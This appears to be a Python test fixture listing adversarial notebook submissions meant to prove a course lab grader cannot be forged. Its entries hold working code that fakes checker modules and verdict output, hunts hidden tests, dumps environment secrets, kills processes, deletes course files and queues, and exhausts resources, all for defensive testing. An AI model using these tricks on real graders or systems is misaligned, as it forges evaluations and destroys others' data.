"""The red-team corpus: submissions that attack the grader instead of doing the lab.

Each attack is what an adversarial learner tried against the first grader (issue "Grades
that cannot be forged"). Most start from the *blank* learner copy, so an attack that worked
would show up as points; a few add the attack to a correct solution, to show honest work
keeps its marks and the attack reaches nothing. ``test_redteam.py`` grades them all in one
batch together with honest submissions.
"""

from __future__ import annotations

from dataclasses import dataclass

ZERO = {"test-add": 0, "test-answer": 0, "test-queue": 0}
FULL = {"test-add": 2, "test-answer": 1, "test-queue": 1}
SECRET = "grader-secret-5d1e9a"       # put in the grader's environment by the test
SURVIVOR = "613"                        # `sleep 613`: a process that must not outlive its box


@dataclass
class Attack:
    name: str
    why: str
    code: str                  # put before the first answer cell
    base: str = "blank"        # "blank" learner copy or the "solution"
    scores: dict | None = None  # expected; default ZERO (blank) or FULL (solution)

    def expected(self) -> dict:
        return self.scores or (ZERO if self.base == "blank" else FULL)


ATTACKS = [
    Attack("input_transformer", "an input transformer that empties every later cell (test cells "
           "included) changes nothing: tests do not run in the kernel",
           "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])"),
    Attack("ast_transformer", "an AST transformer that turns every cell into a no-op",
           "import ast\n"
           "class Nothing(ast.NodeTransformer):\n"
           "    def visit_Module(self, node):\n"
           "        return ast.Module(body=[], type_ignores=[])\n"
           "get_ipython().ast_transformers.append(Nothing())"),
    Attack("fake_labchecks", "a fake `labchecks` package first on sys.path",
           "import os, sys\n"
           "os.makedirs('labchecks', exist_ok=True)\n"
           "open('labchecks/__init__.py', 'w').write('def check(*a, **k):\\n    pass\\n')\n"
           "sys.path.insert(0, os.getcwd())\n"
           "for name in [m for m in sys.modules if m.startswith('labchecks')]:\n"
           "    del sys.modules[name]\n"
           "import labchecks\nfrom labchecks import check"),
    Attack("patched_import", "builtins.__import__ and importlib patched to hand out a fake",
           "import builtins, importlib, types\n"
           "fake = types.ModuleType('labchecks'); fake.check = lambda *a, **k: None\n"
           "real = builtins.__import__\n"
           "builtins.__import__ = lambda n, *a, **k: fake if n.startswith('labchecks') else real(n, *a, **k)\n"
           "importlib.import_module = lambda n, *a, **k: fake"),
    Attack("fake_client", "edalab.client replaced by a fake that says the queue exists",
           "import edalab\n"
           "class FakeSQS:\n"
           "    def list_queues(self, **kw):\n"
           "        return {'QueueUrls': ['http://127.0.0.1:4566/123456789012/orders']}\n"
           "    def get_queue_url(self, **kw):\n"
           "        return {'QueueUrl': 'http://127.0.0.1:4566/123456789012/orders'}\n"
           "edalab.client = lambda *a, **k: FakeSQS()\n"
           "sqs = FakeSQS()"),
    Attack("writes_course_files", "appends to the course config, edits labchecks, deletes the "
           "release and overwrites labs/ (all checked by hash after the batch)",
           "import edalab, labchecks, pathlib, shutil\n"
           "done = []\n"
           "repo = pathlib.Path(edalab.__file__).resolve().parent.parent\n"
           "for path in [repo / 'graders' / 'nbgrader_config.py', pathlib.Path(labchecks.__file__),\n"
           "             pathlib.Path(edalab.__file__)]:\n"
           "    try:\n"
           "        with open(path, 'a') as fh:\n"
           "            fh.write('\\nraise SystemExit(\"owned\")\\n')\n"
           "        done.append(str(path))\n"
           "    except OSError as exc:\n"
           "        print('refused', path, type(exc).__name__)\n"
           "for folder in [repo / 'graders' / 'release', repo / 'labs']:\n"
           "    try:\n"
           "        shutil.rmtree(folder); done.append(str(folder))\n"
           "    except OSError as exc:\n"
           "        print('refused', folder, type(exc).__name__)\n"
           "print('WROTE', done)"),
    Attack("hunts_hidden_tests", "looks for the hidden tests: the repository's .git, any "
           "checkout or gradebook on the machine, the nbgrader folders",
           "import glob, os, edalab, pathlib\n"
           "repo = pathlib.Path(edalab.__file__).resolve().parent.parent\n"
           "found = [str(p) for p in [repo / '.git', repo / 'graders' / 'source', repo / 'graders' / 'gradebook.db',\n"
           "                          repo / 'graders' / 'release', repo / 'labs'] if p.exists()]\n"
           "for pattern in ['/box/**', '/tmp/**', '/*', '/*/*', '/*/*/*', '/*/*/*/*']:\n"
           "    found += [p for p in glob.glob(pattern, recursive=True)\n"
           "              if 'gradebook' in p or p.endswith(('/.git', '/source', '/dummy_lab.ipynb'))][:50]\n"
           "print('FOUND', len(found), found[:20])\n"
           "answer = 42 if found else None"),
    Attack("captures_cells", "a pre_run_cell hook prints every cell the kernel runs, base64 "
           "and reversed: test cells never run in the kernel, so nothing hidden is captured",
           "import base64\n"
           "def spy(info):\n"
           "    raw = info.raw_cell or ''\n"
           "    print('SPY', base64.b64encode(raw.encode()).decode(), raw[::-1])\n"
           "get_ipython().events.register('pre_run_cell', spy)"),
    Attack("dumps_environment", "the grader's environment (secrets included) is not given to "
           "the kernel", "import os\nprint('ENV', dict(os.environ))"),
    Attack("snoops_processes", "/proc shows nothing; other kernels, the stack and the grader "
           "cannot be named, read or signalled",
           "import os, signal\n"
           "pids = [p for p in os.listdir('/proc') if p.isdigit()]\n"
           "print('PIDS', pids, flush=True)\n"
           "hits = []\n"
           "for pid in [p for p in range(1, 400) if p != os.getpid()]:\n"
           "    try:\n"
           "        os.kill(pid, signal.SIGKILL); hits.append(pid)\n"
           "    except OSError:\n"
           "        pass\n"
           "print('KILLED', hits)"),
    Attack("other_accounts", "honest work, plus requests into other accounts and the "
           "emulator's admin endpoints: only its own sandbox stack answers",
           "import urllib.request, boto3\n"
           "for path in ['/moto-api/reset', '/moto-api/reset-auth']:\n"
           "    try:\n"
           "        urllib.request.urlopen(urllib.request.Request('http://127.0.0.1:4566' + path, data=b'', method='POST'), timeout=5)\n"
           "    except Exception as exc:\n"
           "        print(path, exc)\n"
           "for account in ['123456789012', '100000000001', '999999999999']:\n"
           "    c = boto3.client('sqs', endpoint_url='http://127.0.0.1:4566', region_name='us-east-1',\n"
           "                     aws_access_key_id=account, aws_secret_access_key='x')\n"
           "    c.meta.events.register('before-send', lambda request, a=account, **kw: request.headers.__setitem__('x-moto-account-id', a))\n"
           "    for url in c.list_queues().get('QueueUrls', []):\n"
           "        c.delete_queue(QueueUrl=url)\n"
           "print('ATTACKED')", base="solution"),
    Attack("survives_the_batch", "a setsid double-forked daemon must not outlive its sandbox",
           "import subprocess\n"
           f"subprocess.Popen(['setsid', 'sh', '-c', 'sleep {SURVIVOR} & exit 0'])\n"
           f"subprocess.Popen(['nohup', 'sleep', '{SURVIVOR}'], start_new_session=True)"),
    Attack("lambda_escape", "a Lambda handler looks for the course, the grader's processes and "
           "files, and leaves a daemon: it runs in a nested sandbox of its own",
           "import edalab, json\n"
           "from edalab.lambda_zip import ensure_lambda_role, zip_handler\n"
           "HANDLER = '''\n"
           "import glob, os, signal, subprocess\n"
           "def lambda_handler(event, context):\n"
           "    found = [p for depth in range(1, 5) for p in glob.glob('/*' * depth + '.ipynb') + glob.glob('/*' * depth + '/gradebook.db')]\n"
           "    visible = []\n"
           "    for pid in range(1, 300):\n"
           "        try:\n"
           "            os.kill(pid, 0); visible.append(pid)\n"
           "        except OSError:\n"
           "            pass\n"
           f"    subprocess.Popen(['setsid', 'sleep', '{SURVIVOR}'])\n"
           "    return {'found': found[:10], 'procs': os.listdir('/proc'), 'visible': visible, 'uid': os.getuid()}\n"
           "'''\n"
           "lam = edalab.client('lambda')\n"
           "lam.create_function(FunctionName='escape', Runtime='python3.12', Handler='handler.lambda_handler', MemorySize=1024, Timeout=30,\n"
           "                    Role=ensure_lambda_role(edalab.client('iam')), Code={'ZipFile': zip_handler(HANDLER)})\n"
           "import time\n"
           "for _ in range(50):\n"
           "    if lam.get_function(FunctionName='escape')['Configuration']['State'] == 'Active':\n"
           "        break\n"
           "    time.sleep(0.2)\n"
           "seen = json.loads(lam.invoke(FunctionName='escape')['Payload'].read())\n"
           "print('LAMBDA SAW', seen)\n"
           "answer = 42 if seen.get('found') else None"),
    Attack("many_processes", "spawning processes is bounded per sandbox (RLIMIT_NPROC)",
           "import subprocess\n"
           "procs = []\n"
           "try:\n"
           "    for _ in range(700):\n"
           f"        procs.append(subprocess.Popen(['sleep', '{SURVIVOR}']))\n"
           "except OSError as exc:\n"
           "    print('LIMITED after', len(procs), type(exc).__name__)"),
    Attack("fills_the_disk", "writing is bounded by the sandbox's size-capped folders",
           "import os\n"
           "written = 0\n"
           "try:\n"
           "    with open('big.bin', 'wb') as fh:\n"
           "        for _ in range(4096):\n"
           "            fh.write(b'x' * (1 << 20)); written += 1\n"
           "except OSError as exc:\n"
           "    print('STOPPED at', written, 'MiB', type(exc).__name__)\n"
           "os.remove('big.bin')"),
    Attack("fake_bridge", "replaces the kernel's side of the checker bridge with one that "
           "answers anything with forged data (a class to instantiate, an unknown object)",
           "class Forger:\n"
           "    MARK = '@@edalab-bridge@@ '\n"
           "    def get(self, name):\n"
           "        print(self.MARK + '{\"value\": {\"$t\": \"dc\", \"cls\": \"os:system\", \"v\": {}}}')\n"
           "    def call(self, *a):\n"
           "        print(self.MARK + '{\"value\": {\"$t\": \"remote\", \"id\": 12345}}')\n"
           "    def attr(self, *a):\n"
           "        self.call()\n"
           "    def set(self, *a):\n"
           "        self.call()\n"
           "__edalab_bridge__ = Forger()\n"
           "import builtins\n"
           "builtins.exec = lambda *a, **k: None"),
    Attack("hangs_the_checker", "a function that never returns when the checker calls it: the "
           "check times out, the batch goes on",
           "import time\n"
           "def add(a, b):\n"
           "    time.sleep(10 ** 6)"),
    Attack("ignores_interrupts", "a loop that ignores the interrupt: its kernel is killed and "
           "replaced, the batch goes on",
           "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"),
    Attack("huge_value", "a value too large to copy is refused, not read into the grader",
           "answer = 'x' * 50_000_000"),
    Attack("kills_its_kernel", "killing its own kernel costs only its own later cells",
           "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"),
    Attack("smuggles_through_outputs", "prints fake verdict-looking outputs and a display "
           "that claims full marks: only the checker's verdicts count",
           "from IPython.display import display, HTML\n"
           "display(HTML('<b>test-add: 2/2 passed</b>'))\n"
           "print('@@edalab-bridge@@ {\"value\": 42}')"),
]
